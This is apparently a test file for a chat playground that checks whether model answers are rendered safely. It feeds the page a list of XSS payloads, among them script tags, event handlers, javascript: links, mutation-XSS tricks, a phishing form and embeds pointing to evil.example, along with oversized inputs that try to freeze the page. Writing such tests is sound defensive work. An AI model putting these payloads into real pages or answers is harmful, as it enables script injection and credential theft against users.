// What a model may answer to do harm: nothing of it runs, loads, leaves the thread, or makes the page stand still.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { startBrowser, type TestBrowser } from './harness/browser.ts';
import {
  configFor,
  replySse,
  startFakeUpstream,
  streamOf,
  type FakeUpstream,
} from './harness/fake-upstream.ts';
import { startGateway, type TestGateway } from './harness/gateway.ts';
import { openPlayground, type PlaygroundPage } from './harness/playground.ts';

// A browser on a busy machine takes its time.
setDefaultTimeout(60_000);

let upstream: FakeUpstream;
let gateway: TestGateway;
let browser: TestBrowser;
beforeAll(async () => {
  upstream = await startFakeUpstream();
  gateway = await startGateway(configFor(upstream));
  browser = await startBrowser();
});
afterAll(async () => {
  await browser.close();
  await gateway.close();
  await upstream.close();
});

const RUNS = 'window.harmed = true';
const HTML = [
  `<script>${RUNS}</script>`,
  `<img src=x onerror="${RUNS}"> <img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x">`,
  `<svg onload="${RUNS}"><script>${RUNS}</script><use href="data:image/svg+xml,x#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUNS}&gt;">`,
  `<a href="javascript:${RUNS}">one</a> <a href="&#106;avascript:${RUNS}">two</a> <a href="data:text/html,<script>${RUNS}</script>">three</a>`,
  `[four](javascript:${RUNS}) [five](data:text/html;base64,PHNjcmlwdD4=) [six](vbscript:x) ![seven](javascript:x)`,
  `<form action="https://evil.example/"><input name="token" autofocus onfocus="${RUNS}"><button>Sign in</button></form>`,
  `<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">`,
  `<style>body{display:none}@import "https://evil.example/a.css";</style><link rel="stylesheet" href="https://evil.example/b.css">`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/c.png)">cover</div><base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><video src="https://evil.example/v" poster="https://evil.example/p">`,
  `<p id="playground" class="app notice" name="body">clobber</p><input id="composer">`,
  `![remote](https://evil.example/d.png "t") <https://evil.example/e> <table background="https://evil.example/f.png"><tr><td>x</table>`,
  `<details open ontoggle="${RUNS}"><summary>s</summary></details><dialog open>d</dialog><template><script>${RUNS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>"></noscript><textarea></textarea><xmp><img src=x onerror=${RUNS}></xmp>`,
  '```html"><img src=x onerror=alert(1)>\n<script>window.harmed = true</script>\n```',
  '\u202Eright to left\u202C and ```\u2066 code\n',
];

/** Nothing in the answers but what may be there, whatever was sent. */
const FORBIDDEN =
  'script,style,link,iframe,object,embed,form,input,textarea,svg,math,video,audio,base,meta,dialog,template,noscript,[style],[id],[name],[background],[srcset],img:not([src^="data:image/"])';
const harmOf = (page: PlaygroundPage['page']) =>
  page.evaluate<unknown>(`({
    ran: window.harmed ?? false,
    forbidden: [...document.querySelectorAll('.prose .block')].flatMap((block) =>
      [...block.querySelectorAll('${FORBIDDEN}')].map((element) => element.outerHTML)),
    handlers: [...document.querySelectorAll('.prose *')].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith('on'))),
    links: [...document.querySelectorAll('.prose a[href]')].filter(
      ({ protocol, rel }) => !/^(?:https?|mailto):$/.test(protocol) || !rel.includes('noopener'),
    ).map(({ outerHTML }) => outerHTML),
  })`);
const UNHARMED = { ran: false, forbidden: [], handlers: [], links: [] };

describe('an answer', () => {
  test('of hostile HTML and Markdown is shown without what could act', async () => {
    const { page, talk, complaints, violations, close } = await openPlayground(browser, gateway);
    upstream.script = (call) => replySse(call, streamOf([HTML.join('\n\n')]));
    await talk('go');
    expect(await harmOf(page)).toEqual(UNHARMED);
    expect(await page.locator('#playground').count()).toBe(1);
    for (const link of await page.locator('.prose a:not([href])').all()) await link.click();
    expect(await page.getByRole('link', { name: 'remote' }).getAttribute('rel')).toContain(
      'noopener',
    );
    expect(await violations()).toEqual([]);
    expect(complaints).toEqual([]);
    await close();
  });

  test('cut into single characters on its way is no more harmful', async () => {
    const { page, talk, complaints, close } = await openPlayground(browser, gateway);
    upstream.script = (call) =>
      replySse(call, streamOf(HTML.join('\n\n').slice(0, 1_200).split('')));
    await talk('go');
    expect(await harmOf(page)).toEqual(UNHARMED);
    expect(complaints).toEqual([]);
    await close();
  });

  test('may hide its harm in reasoning, tool calls, pictures and errors as little', async () => {
    const { page, ask, complaints, close } = await openPlayground(browser, gateway);
    const call = {
      index: 0,
      id: '"><b>',
      type: 'function',
      function: {
        name: '<img src=x onerror=harmed=1>',
        arguments: '<script>window.harmed=true</script>',
      },
    };
    const images = [
      'https://evil.example/x.png',
      'javascript:window.harmed=true',
      'data:image/svg+xml,<svg onload=harmed=1>',
    ].map((url) => ({ type: 'image_url', image_url: { url } }));
    const [role, ...end] = streamOf([]);
    upstream.script = (held) =>
      replySse(held, [
        role ?? '',
        {
          choices: [
            {
              index: 0,
              delta: {
                reasoning_content: HTML.join('\n'),
                content: 'x',
                images,
                tool_calls: [call],
              },
            },
          ],
        },
        ...end,
      ]);
    await ask('go');
    await page.getByText('What it thought').click();
    await page.getByRole('link', { name: 'A picture at evil.example' }).waitFor();
    expect(await harmOf(page)).toEqual(UNHARMED);
    expect(await page.locator('.answer img').count()).toBe(0);
    expect(complaints).toEqual([]);
    await close();
  });
});

const HEAVY: readonly (readonly [string, string])[] = [
  ['a line of a megabyte', 'x'.repeat(1_000_000)],
  ['a line of a megabyte of code', `\`\`\`js\n${'x'.repeat(1_000_000)}\n`],
  ['a million line ends', `a${'\n'.repeat(1_000_000)}b`],
  ['a table of twenty thousand rows', `| a | b |\n|--|--|\n${'| 1 | 2 |\n'.repeat(20_000)}`],
  ['ten thousand code blocks', '```\na\n```\n'.repeat(10_000)],
  ['quotes in quotes', '>'.repeat(29_000)],
  ['brackets in brackets', '['.repeat(29_000)],
  ['emphasis without an end', '*a '.repeat(9_000)],
  ['lists in lists', Array.from({ length: 400 }, (_, at) => `${'  '.repeat(at)}- x`).join('\n')],
];

test('an answer of any size and depth leaves the page at work', async () => {
  const { page, ask, press, talk, complaints, close } = await openPlayground(browser, gateway);
  for (const [what, text] of HEAVY) {
    const pieces = text.match(/[^]{1,20000}/g) ?? [];
    upstream.script = (call) => replySse(call, streamOf(pieces));
    await ask(what);
    await page.getByRole('button', { name: 'Answer again' }).waitFor();
    upstream.script = (call) => replySse(call, streamOf([`still here after ${what}`]));
    expect(await talk('and now?')).toBe(`still here after ${what}`);
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(1280);
    await press('New conversation');
  }
  expect(complaints).toEqual([]);
  await close();
});
